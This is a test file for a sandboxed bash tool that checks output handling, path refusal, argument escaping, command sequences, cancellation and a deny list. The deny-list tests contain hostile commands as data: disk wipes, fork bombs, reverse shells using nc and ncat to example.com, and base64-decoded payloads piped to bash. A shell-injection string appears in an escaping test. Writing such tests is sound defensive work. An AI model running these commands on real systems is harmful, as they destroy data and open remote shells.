import { existsSync, mkdirSync, symlinkSync } from 'node:fs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { buildCommand, escapeArg } from '../../src/core/model/run/safe-command.js'
import { oddSeconds, openWorkbench, processesWith, refusal, type Workbench } from './workbench.js'

/** The fourth document: bash as a primitive with options, validation, sequences and a variant that must succeed. */
describe('the bash primitive', () => {
  let bench: Workbench

  beforeAll(async () => {
    bench = await openWorkbench({
      settings: `
[profiles.own-patterns]
extends = "workspace"
permissions = { deny = ["Bash(git push:*)"] }

[profiles.unhurried]
extends = "workspace"
timeouts = { none_allowed = true }

[profiles.small]
extends = "workspace"
output = { presented_chars = 100 }
`,
    })
  })
  afterAll(() => bench.close())

  describe('execution', () => {
    it('does not block: several commands make their way at once', async () => {
      const slow = bench.cordon.start('read -r line; echo "$line"')
      expect(await bench.cordon.run('echo quick')).toMatchObject({ stdout: 'quick\n' })
      slow.input('slow\n')
      expect(await slow.result).toMatchObject({ stdout: 'slow\n' })
    })

    it('a result has stdout apart from stderr', async () => {
      expect(await bench.cordon.run("echo 'hello world'")).toMatchObject({
        exitCode: 0,
        stdout: 'hello world\n',
        stderr: '',
      })
    })

    it('a result has stderr apart from stdout', async () => {
      expect(await bench.cordon.run('echo error >&2')).toMatchObject({ exitCode: 0, stdout: '', stderr: 'error\n' })
    })

    it("a result has the command's exit code", async () => {
      expect(await bench.cordon.run('exit 42')).toMatchObject({ exitCode: 42 })
    })

    it('reads nothing from stdin unless given something', async () => {
      expect(await bench.cordon.run('cat; echo end')).toMatchObject({ stdout: 'end\n' })
      expect(await bench.cordon.run('cat', { stdin: 'text' })).toMatchObject({ stdout: 'text' })
    })

    it('says how long it took and under which id', async () => {
      const result = await bench.cordon.run('true')
      expect(result.id).toMatch(/^\w+$/)
      expect(result.durationMs).toBeGreaterThan(0)
      expect(bench.cordon.audit.query({ id: result.id })).toHaveLength(1)
    })
  })

  describe('options', () => {
    it('the working directory is respected', async () => {
      mkdirSync(bench.path('deep/er'), { recursive: true })
      expect(await bench.cordon.run('pwd', { cwd: 'deep/er' })).toMatchObject({ stdout: `${bench.path('deep/er')}\n` })
    })

    it('a working directory outside is refused in any spelling', async () => {
      symlinkSync('/usr', bench.path('usr'))
      for (const cwd of ['/usr', '..', 'usr', 'deep/../../..']) {
        await refusal(bench.cordon.run('pwd', { cwd }), 'PATH_NOT_ALLOWED')
      }
    })

    it('variables of the options reach the command', async () => {
      expect(await bench.cordon.run('echo $TEST_VAR', { env: { TEST_VAR: 'test_value' } })).toMatchObject({
        stdout: 'test_value\n',
      })
    })

    it('a value that looks like shell code stays a value', async () => {
      const value = '$(touch pwned); `id` "\' \\ \n end'
      const result = await bench.cordon.exec('printenv', ['VALUE'], { env: { VALUE: value } })
      expect(result.stdout).toBe(`${value}\n`)
      expect(existsSync(bench.path('pwned'))).toBe(false)
    })

    it('no time limit only where the profile allows it', () => {
      expect(bench.cordon.check('true', { timeoutMs: 'none', profile: 'unhurried' }).plan?.timeoutMs).toBeNull()
      expect(bench.cordon.check('true', { timeoutMs: 'none' }).plan?.timeoutMs).toBe(120_000)
    })

    it('the size of the output is bounded as the profile says', async () => {
      const result = await bench.cordon.run('seq 1 1000', { profile: 'small' })
      expect(result.truncated).toBe(true)
      expect(result.stdout).toBe(`[Output truncated: showing last 100 chars of 3893 chars]\n${seq(1_000).slice(-100)}`)
    })

    it('patterns of one’s own are blocked beside the built-in ones', async () => {
      await refusal(bench.cordon.run('git push origin main', { profile: 'own-patterns' }), 'POLICY_DENIED')
      await refusal(bench.cordon.run('sudo id', { profile: 'own-patterns' }), 'COMMAND_BLOCKED')
    })
  })

  describe('validation', () => {
    it.each(['ls -la', 'git status', "echo 'hello'", 'rm file.txt', 'echo "rm -rf /"'])(
      'validation lets %s through',
      (script) => {
        expect(bench.cordon.check(script).verdict).toBe('allow')
      },
    )

    it.each([
      'rm -rf /',
      'rm  -r  -f  /',
      'rm -fr /*',
      'rm -rf --no-preserve-root /',
      'RM=rm; $RM -rf /',
      'dd if=/dev/zero of=/dev/sda',
      'dd if=/dev/sda of=image',
      'mkfs.ext4 /dev/sda1',
      ':(){ :|:& };:',
      'bomb() { bomb | bomb & }; bomb',
      'echo x > /dev/sda',
      'nc -e /bin/sh example.com 4444',
      'ncat -e /bin/bash example.com 4444',
      'echo cm0gLXJmIC8= | base64 -d | bash',
      'base64 -d payload|bash',
    ])('validation blocks the command %s', async (script) => {
      const { verdict } = bench.cordon.check(script)
      expect(verdict).toBe('deny')
      const error = await refusal(bench.cordon.run(script))
      expect(error.info.category).toBe('policy-blocked')
    })

    it('an empty command says so', async () => {
      expect((await refusal(bench.cordon.run('  '), 'INVALID_ARGUMENTS')).message).toMatch(/empty/i)
    })
  })

  describe('building commands', () => {
    it('an argument is escaped so that bash reads back exactly that', async () => {
      expect(escapeArg("it's")).toBe("'it'\\''s'")
      for (const arg of [
        'hello',
        'a b',
        "it's",
        '$HOME',
        '`id`',
        '',
        'a\nb',
        '*',
        '~',
        '-n',
        '\\',
        '!x',
        'ü€😀',
        '{a,b}',
      ]) {
        const result = await bench.cordon.run(`printf %s ${escapeArg(arg)}`)
        expect(result.stdout).toBe(arg)
      }
    })

    it('a command is built from a program and its arguments', async () => {
      const command = buildCommand('printf', ['%s,', 'a b', "it's", '$(id)'])
      expect((await bench.cordon.run(command)).stdout).toBe("a b,it's,$(id),")
    })
  })

  describe('several commands', () => {
    it('run in order and stop at the first that fails, with every result so far', async () => {
      const results = await bench.cordon.sequence(['echo 1', 'exit 3', 'touch never'])
      expect(results.map((r) => r.exitCode)).toEqual([0, 3])
      expect(existsSync(bench.path('never'))).toBe(false)
    })

    it('all succeed: all are returned', async () => {
      const results = await bench.cordon.sequence(['echo 1', { program: 'echo', args: ['2'] }])
      expect(results.map((r) => r.stdout)).toEqual(['1\n', '2\n'])
    })
  })

  describe('the variant that must succeed', () => {
    it('gives the result of a success', async () => {
      expect(await bench.cordon.mustSucceed('echo fine')).toMatchObject({ stdout: 'fine\n' })
    })

    it('makes a typed error of a failure, with the code, stderr and the whole result', async () => {
      const error = await refusal(bench.cordon.mustSucceed('echo why >&2; exit 9'), 'COMMAND_FAILED')
      expect(error.message).toContain('9')
      expect(error.message).toContain('why')
      expect(error.details).toMatchObject({ result: { exitCode: 9, stderr: 'why\n' } })
    })
  })

  describe('cancellation', () => {
    it('ends the whole tree and leaves nothing', async () => {
      const seconds = oddSeconds()
      const abort = new AbortController()
      const result = await bench.cordon.run(`setsid sleep ${seconds} & sleep ${seconds} & echo up; wait`, {
        signal: abort.signal,
        onEvent: (event) => event.type === 'output' && abort.abort(),
      })
      expect(result).toMatchObject({ cancelled: true, exitCode: 130, error: { code: 'CANCELLED' }, stdout: 'up\n' })
      expect(processesWith(seconds)).toEqual([])
      expect(bench.cordon.tasks.list().filter(({ state }) => state !== 'ended')).toEqual([])
    })

    it('before the start means that nothing starts', async () => {
      const result = await bench.cordon.run('touch started', { signal: AbortSignal.abort() })
      expect(result).toMatchObject({ cancelled: true, exitCode: 130 })
      expect(existsSync(bench.path('started'))).toBe(false)
    })
  })
})

const seq = (to: number): string => Array.from({ length: to }, (_, i) => `${i + 1}\n`).join('')
